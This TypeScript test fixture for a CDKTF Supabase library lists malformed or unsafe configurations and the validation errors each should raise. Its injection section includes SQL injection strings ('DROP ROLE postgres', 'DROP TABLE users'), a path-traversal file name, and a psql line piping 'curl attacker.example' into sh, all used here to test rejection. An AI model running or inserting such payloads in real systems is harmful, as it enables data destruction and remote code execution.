import { App } from 'cdktf';
import { BadInput, production, staging } from './support';
import {
  Environment, EnvironmentStack, PolicyCommand, RowLevelSecurity, RowLevelSecurityPolicy, SecretValue, SqlMigration, SqlMigrationProps,
  SupabaseDatabase, SupabaseDatabaseProps, SupabaseRegion,
} from '../../lib';

const TENANT = RowLevelSecurity.ownRowsOnly({ table: 'campaigns', ownerColumn: 'seller_id', roles: ['authenticated'] });
const AUTH = { siteUrl: 'https://app.example.com' };
const CIDRS = ['198.51.100.0/24'];

/** A staging (or production) database with valid defaults and `props` on top; `auth` merged. */
const db = (props: any, prod = false): BadInput[1] => (app: App) => new SupabaseDatabase(prod ? production(app) : staging(app), 'Database', {
  allowedCidrs: CIDRS, ...props, auth: props.auth === null ? undefined : { ...AUTH, ...props.auth },
} as SupabaseDatabaseProps);
const policy = (p: Partial<RowLevelSecurityPolicy> | any): BadInput[1] => db({ rowLevelSecurity: [{ ...TENANT, ...p }] });
const cidrs = (list: unknown): BadInput[1] => db({ allowedCidrs: list });
const migration = (props: Partial<SqlMigrationProps> | any): BadInput[1] => (app) => new SqlMigration(staging(app), 'Migration', { sql: 'SELECT 1;', fileName: 'm.sql', apply: false, ...props });
const P = '[staging/Database] invalid';
const SQL_EXPRESSION = 'expected one SQL expression, as PostgreSQL\'s parser reads it';
const NOT_WIDE = 'set unsafeAllowAllIps: true (and, in production, list it in acknowledgeUnsafeInProduction) to open the database to every address deliberately';
const SHARED = (domain: string, url: string) => `${P} "auth.redirectUrls[0]": got "${url}"; expected an https:// URL without a wildcard under "${domain}": anyone can get a subdomain there`;

export const SUPABASE_BAD_INPUTS: BadInput[] = [
  // --- wrong types from JavaScript or JSON ---
  ['supabase: unsafeAllowAllIps as the string "false"', db({ unsafeAllowAllIps: 'false' }), `${P} "unsafeAllowAllIps": got "false"; expected true or false (a boolean, not a string)`],
  ['supabase: preventDestroy as the string "true"', db({ preventDestroy: 'true' }), `${P} "preventDestroy": got "true"; expected true or false (a boolean, not a string)`],
  ['supabase: acknowledgeUnsafeInProduction as a boolean (the old API)', db({ unsafeAllowAllIps: true, acknowledgeUnsafeInProduction: true }, true), '[production/Database] invalid "acknowledgeUnsafeInProduction": got true; expected a list'],
  ['supabase: allowedCidrs as a string', cidrs('198.51.100.0/24'), `${P} "allowedCidrs": got "198.51.100.0/24"; expected a list`],
  ['supabase: schemas as a string', db({ schemas: 'public' }), `${P} "schemas": got "public"; expected a list`],
  ['supabase: databasePassword as { value }', db({ databasePassword: { value: 'hunter2hunter2hunter2' } }), `${P} "databasePassword": got "<non-SecretValue redacted>"; expected a SecretValue`],
  ['supabase: databasePassword as a string', db({ databasePassword: 'hunter2hunter2hunter2' }), `${P} "databasePassword": got "<string redacted>"; expected a SecretValue`],
  ['supabase: passwordLength NaN', db({ passwordLength: NaN }), `${P} "passwordLength": got NaN; expected a whole number from 16 to 128`],
  ['supabase: passwordLength Infinity', db({ passwordLength: Infinity }), `${P} "passwordLength": got Infinity; expected a whole number from 16 to 128`],
  ['supabase: region as a string', db({ region: 'us-east-1' }), `${P} "region": got "us-east-1"; expected a SupabaseRegion: SupabaseRegion.US_EAST_1, SupabaseRegion.EU_CENTRAL_1, ... or SupabaseRegion.of("<code>")`],
  ['supabase: instanceSize as a string', db({ instanceSize: 'small' }), `${P} "instanceSize": got "small"; expected a SupabaseInstanceSize: SupabaseInstanceSize.MICRO, SupabaseInstanceSize.SMALL, ... or SupabaseInstanceSize.of("<name>")`],
  ['supabase: a region code that is not one', () => SupabaseRegion.of('Frankfurt'), '[SupabaseRegion.of] invalid "code": got "Frankfurt"; expected a region code such as "us-east-1"'],
  ['supabase: auth.siteUrl as an object', db({ auth: { siteUrl: {} } }), `${P} "auth.siteUrl": got {}; expected an https:// URL without wildcards, no commas or spaces, or http://localhost[:port] outside production`],
  ['supabase: no auth at all', db({ auth: null }), `${P} "auth": got undefined; expected Auth settings with at least "siteUrl"`],
  ['supabase: a role connection limit as a string', db({ applicationRole: { connectionLimit: '20' } }), `${P} "applicationRole.connectionLimit": got "20"; expected a whole number from 1 to 1000`],
  ['supabase: rowLevelSecurity as an object', db({ rowLevelSecurity: TENANT }), `${P} "rowLevelSecurity": got {`],
  ['supabase: a policy command as a string', policy({ command: 'ALL' }), `${P} "rowLevelSecurity[0].command": got "ALL"; expected a PolicyCommand: PolicyCommand.ALL, PolicyCommand.SELECT, PolicyCommand.INSERT, PolicyCommand.UPDATE or PolicyCommand.DELETE`],
  ['supabase: a policy roles list as a string', policy({ roles: 'authenticated' }), `${P} "rowLevelSecurity[0].roles": got "authenticated"; expected a list`],
  ['supabase: api.maxRows of 1.5', db({ api: { maxRows: 1.5 } }), `${P} "api.maxRows": got 1.5; expected a whole number from 1 to 1000000`],
  ['supabase: environment that is not an Environment', db({ environment: { name: 'staging', project: 'acme' } }), `${P} "environment": got {"name":"staging","project":"acme"}; expected an Environment`],
  // --- unknown props (typos in JSON configuration) ---
  ['supabase: a misspelt prop', db({ allowedCIDRs: ['0.0.0.0/0'] }), `${P} "allowedCIDRs": got ["0.0.0.0/0"]; expected no such property`],
  ['supabase: a misspelt nested prop', db({ auth: { redirectURLs: ['https://x.example.com'] } }), `${P} "auth.redirectURLs": got ["https://x.example.com"]; expected no such property`],
  ['supabase: a misspelt role prop', db({ analyticsRole: { connectionLimits: 5 } }), `${P} "analyticsRole.connectionLimits": got 5; expected no such property`],
  // --- out of range ---
  ['supabase: passwordLength 129', db({ passwordLength: 129 }), `${P} "passwordLength": got 129; expected a whole number from 16 to 128`],
  ['supabase: a JWT expiry of a minute', db({ auth: { jwtExpirySeconds: 60 } }), `${P} "auth.jwtExpirySeconds": got 60; expected a whole number from 300 to 604800`],
  ['supabase: a negative role statement timeout', db({ migrationRole: { statementTimeoutSeconds: -1 } }), `${P} "migrationRole.statementTimeoutSeconds": got -1; expected a whole number from 0 to 86400`],
  ['supabase: an environment region Supabase does not offer', (app) => new SupabaseDatabase(new EnvironmentStack(app, 'bahrain', { environment: Environment.production({ project: 'acme', region: 'me-south-1' }) }), 'Database', { auth: AUTH, allowedCidrs: CIDRS }),
    '[bahrain/Database] invalid "region": got "me-south-1"; expected a Supabase region: the environment\'s region is not one Supabase offers (us-east-1, us-east-2, us-west-1, us-west-2, ca-central-1, sa-east-1, eu-central-1, eu-central-2, eu-north-1, eu-west-1, eu-west-2, eu-west-3, ap-east-1, ap-northeast-1, ap-northeast-2, ap-south-1, ap-southeast-1, ap-southeast-2); set "region", for example SupabaseRegion.US_EAST_1, or SupabaseRegion.of("<code>") for a region newer than this library'],
  // --- literal secrets by value ---
  ['supabase: a token in a redirect URL', db({ auth: { redirectUrls: [`https://app.example.com/cb?key=sk-proj-${'a'.repeat(30)}`] } }), `${P} "auth.redirectUrls[0]": got "<URL redacted>"; expected a URL without a credential in it (it contains an OpenAI-style API key (sk-...))`],
  ['supabase: a pooler host with a password in it', db({ poolerHost: 'postgres://postgres:hunter2@pooler.supabase.com' }), `${P} "poolerHost": got "<literal redacted>"; expected a lowercase hostname such as "aws-0-us-east-1.pooler.supabase.com", not a credential (it looks like a URL with a password)`],
  ['supabase: a JWT in migration SQL', migration({ sql: 'SELECT set_config(\'request.jwt\', \'eyJhbGciOiJIUzI1.eyJzdWIiOiIxMjM0NTY3.c2lnbmF0dXJlc2ln\', false);' }), '[staging/Migration] invalid "sql": got "<SQL redacted>"; expected SQL without literal credentials (it contains a JSON Web Token)'],
  ['supabase: a secret-named migration trigger', migration({ triggers: { db_password: 'x' } }), '[staging/Migration] invalid "triggers.db_password": got "<literal string redacted>"; expected a SecretValue'],
  // --- exposure, judged by address space ---
  ['supabase: the whole IPv4 internet', cidrs(['0.0.0.0/0']), `${P} "allowedCidrs[0]": got "0.0.0.0/0"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set; "0.0.0.0/0" opens the database to the whole internet (${NOT_WIDE})`],
  ['supabase: half of IPv4 (0.0.0.0/1)', cidrs(['0.0.0.0/1']), `${P} "allowedCidrs[0]": got "0.0.0.0/1"; expected a block that is not internet-wide: it covers 56.5% of the public IPv4 space, above 1/4096 of it (about a /12); ${NOT_WIDE}`],
  ['supabase: a quarter of IPv4 (64.0.0.0/2)', cidrs(['64.0.0.0/2']), `${P} "allowedCidrs[0]": got "64.0.0.0/2"; expected a block that is not internet-wide: it covers 28.4% of the public IPv4 space`],
  ['supabase: a public /8', cidrs(['34.0.0.0/8']), `${P} "allowedCidrs[0]": got "34.0.0.0/8"; expected a block that is not internet-wide: it covers 0.45% of the public IPv4 space`],
  ['supabase: two /13s that together are internet-wide', cidrs(['34.0.0.0/13', '35.0.0.0/13']), `${P} "allowedCidrs": got ["34.0.0.0/13","35.0.0.0/13"]; expected blocks that together stay below 1/4096 of it (about a /12): the IPv4 blocks cover 0.028% of the public IPv4 space; ${NOT_WIDE}`],
  ['supabase: IPv6 global unicast (2000::/3)', cidrs(['2000::/3']), `${P} "allowedCidrs[0]": got "2000::/3"; expected a block that is not internet-wide: it covers 100.0% of the public IPv6 space, above 2^-20 of it (a /23)`],
  ['supabase: IPv6 2001::/16', cidrs(['2001::/16']), `${P} "allowedCidrs[0]": got "2001::/16"; expected a block that is not internet-wide`],
  ['supabase: every IPv6 address', cidrs(['::/0']), `${P} "allowedCidrs[0]": got "::/0"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set; "::/0" opens the database to the whole internet`],
  ['supabase: a private block', cidrs(['10.0.0.0/8']), `${P} "allowedCidrs[0]": got "10.0.0.0/8"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set: Supabase network restrictions apply to public addresses, private and loopback ranges are rejected`],
  ['supabase: an IPv6 unique-local block', cidrs(['fd00::/8']), `${P} "allowedCidrs[0]": got "fd00::/8"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set: Supabase network restrictions apply to public addresses`],
  ['supabase: a CIDR with host bits', cidrs(['198.51.100.7/24']), `${P} "allowedCidrs[0]": got "198.51.100.7/24"; expected a public IPv4 ("203.0.113.0/24") or IPv6 ("2001:db8::/32") CIDR block with no host bits set`],
  ['supabase: the same CIDR twice', cidrs(['198.51.100.0/24', '198.51.100.0/24']), `${P} "allowedCidrs[1]": got "198.51.100.0/24"; expected a value not already in the list`],
  ['supabase: unsafeAllowAllIps in production without acknowledgement', db({ unsafeAllowAllIps: true, allowedCidrs: undefined }, true),
    '[production/Database] invalid "unsafeAllowAllIps": got true; expected false in production ("production"), or "unsafeAllowAllIps" listed in "acknowledgeUnsafeInProduction": a database reachable from any address on the internet'],
  ['supabase: unsafeAllowAllIps acknowledged under another name', db({ unsafeAllowAllIps: true, allowedCidrs: undefined, acknowledgeUnsafeInProduction: ['unsafePublicRead'] }, true),
    '[production/Database] invalid "unsafeAllowAllIps": got true; expected false in production ("production"), or "unsafeAllowAllIps" listed in "acknowledgeUnsafeInProduction"'],
  ['supabase: unsafeAllowAllIps next to an allow-list', db({ unsafeAllowAllIps: true }), `${P} "allowedCidrs": got ["198.51.100.0/24"]; expected no allowedCidrs with unsafeAllowAllIps: true (which allows every address): remove one of them`],
  ['supabase: a redirect wildcard on *.vercel.app', db({ auth: { redirectUrls: ['https://*.vercel.app/**'] } }), SHARED('vercel.app', 'https://*.vercel.app/**')],
  ['supabase: a redirect wildcard on *.github.io', db({ auth: { redirectUrls: ['https://*.github.io/**'] } }), SHARED('github.io', 'https://*.github.io/**')],
  ['supabase: a redirect wildcard on *.supabase.co', db({ auth: { redirectUrls: ['https://*.supabase.co/auth/v1/callback'] } }), SHARED('supabase.co', 'https://*.supabase.co/auth/v1/callback')],
  ['supabase: a redirect wildcard on *.up.railway.app', db({ auth: { redirectUrls: ['https://*.up.railway.app'] } }), SHARED('up.railway.app', 'https://*.up.railway.app')],
  ['supabase: exposing the vault schema through the Data API', db({ api: { exposedSchemas: ['public', 'vault'] } }), `${P} "api.exposedSchemas[1]": got "vault"; expected an application schema: the Data API would expose a schema that PostgreSQL or Supabase manages`],
  // --- collisions ---
  ['supabase: two databases with one project name', (app) => {
    const s = staging(app);
    new SupabaseDatabase(s, 'Orders', { auth: AUTH, allowedCidrs: CIDRS, projectName: 'acme-shop' });
    new SupabaseDatabase(s, 'Catalog', { auth: AUTH, allowedCidrs: CIDRS, projectName: 'acme-shop' });
  }, '[staging/Orders] invalid "projectName": got "acme-shop"; expected a Supabase project name used by one database of the app only: staging/Catalog creates a project "acme-shop" too (set "projectName" on one of them)'],
  ['supabase: two stacks creating one project name', (app) => {
    new SupabaseDatabase(staging(app), 'Database', { auth: AUTH, allowedCidrs: CIDRS, projectName: 'acme-shop' });
    new SupabaseDatabase(production(app), 'Database', { auth: AUTH, allowedCidrs: CIDRS, projectName: 'acme-shop' });
  }, 'invalid "projectName": got "acme-shop"; expected a Supabase project name used by one database of the app only: '],
  ['supabase: two roles with one name', db({ applicationRole: { name: 'shop' }, analyticsRole: { name: 'shop' } }),
    `${P} "analyticsRole.name": got "shop"; expected a name of one role only: staging/Database/ApplicationRole ("applicationRole.name") and staging/Database/AnalyticsRole ("analyticsRole.name") would both be "shop"`],
  ['supabase: a role named like one of Supabase\'s', db({ migrationRole: { name: 'authenticator' } }), `${P} "migrationRole.name": got "authenticator"; expected a role name Supabase does not already use`],
  ['supabase: two policies with one name on one table', db({ rowLevelSecurity: [TENANT, { ...TENANT, command: PolicyCommand.SELECT, withCheck: undefined }] }),
    `${P} "rowLevelSecurity[1].name": got "campaigns_own_rows"; expected a policy name unique per table: rowLevelSecurity[0] already names a policy "campaigns_own_rows" on "public"."campaigns"`],
  // --- injection ---
  ['supabase: SQL injection through a role name', db({ applicationRole: { name: 'app"; DROP ROLE postgres; --' } }), `${P} "applicationRole.name": got "app\\"; DROP ROLE postgres; --"; expected a lowercase SQL identifier`],
  ['supabase: SQL injection through a table name', policy({ table: 'campaigns; DROP TABLE users' }), `${P} "rowLevelSecurity[0].table": got "campaigns; DROP TABLE users"; expected "table" or "schema.table"`],
  ['supabase: a USING expression that ends the statement', policy({ using: 'true); DROP TABLE users; --' }),
    `${P} "rowLevelSecurity[0].using": got "true); DROP TABLE users; --"; ${SQL_EXPRESSION} (the text ends the statement it is placed in and starts another: SQL injection)`],
  ['supabase: a WITH CHECK expression that smuggles a FROM clause', policy({ withCheck: 'true) FROM pg_authid WHERE (true' }),
    `${P} "rowLevelSecurity[0].withCheck": got "true) FROM pg_authid WHERE (true"; ${SQL_EXPRESSION} (the text closes the parentheses around it and adds a FROM clause)`],
  ['supabase: a USING expression with an open dollar quote', policy({ using: 'x$q$) ; ROLLBACK; CREATE TABLE pwned (); SELECT ($q$' }), `${P} "rowLevelSecurity[0].using": got "x$q$) ; ROLLBACK; CREATE TABLE pwned (); SELECT ($q$"; ${SQL_EXPRESSION} (PostgreSQL reports: unterminated dollar-quoted string`],
  ['supabase: an owner id of "auth.uid() OR true"', () => RowLevelSecurity.ownRowsOnly({ table: 'campaigns', ownerColumn: 'seller_id', roles: ['authenticated'], ownerId: '(select auth.uid()) OR true' }),
    '[RowLevelSecurity.ownRowsOnly] invalid "ownerId": got "(select auth.uid()) OR true"; expected the current owner\'s id as one SQL value, such as "(select auth.uid())" (this is an OR condition, not a value: the policy compares "seller_id" with the whole of it)'],
  ['supabase: a policy command outside PostgreSQL\'s', policy({ command: 'MERGE' }), `${P} "rowLevelSecurity[0].command": got "MERGE"; expected a PolicyCommand`],
  ['supabase: a psql meta-command in migration SQL', migration({ sql: 'SELECT 1;\n\\! curl attacker.example | sh' }), '[staging/Migration] invalid "sql": got "SELECT 1;\\n\\\\! curl attacker.example | sh"; expected SQL that PostgreSQL can parse (it reports: syntax error at or near "\\", on line 2)'],
  ['supabase: a COMMIT in the middle of migration SQL', migration({ sql: 'BEGIN; SELECT 1; COMMIT; DROP TABLE orders;' }), '[staging/Migration] invalid "sql": got "BEGIN; SELECT 1; COMMIT; DROP TABLE orders;"; expected SQL without transaction control'],
  ['supabase: a migration file name that climbs out of its folder', migration({ fileName: '../../etc/cron.sql' }), '[staging/Migration] invalid "fileName": got "../../etc/cron.sql"; expected a file name of letters, digits, ".", "_" or "-" ending in ".sql"'],
  ['supabase: a migration connection without a SecretValue', (app) => {
    const s = staging(app);
    new SqlMigration(s, 'Migration', { sql: 'SELECT 1;', fileName: 'm.sql', connection: { host: 'db', port: 5432, database: 'postgres', username: 'u', password: { value: 'x' } as any, sslMode: 'require', uri: SecretValue.fromVariable(s, 'uri') } });
  }, '[staging/Migration] invalid "connection.password": got "<non-SecretValue redacted>"; expected a SecretValue'],
];
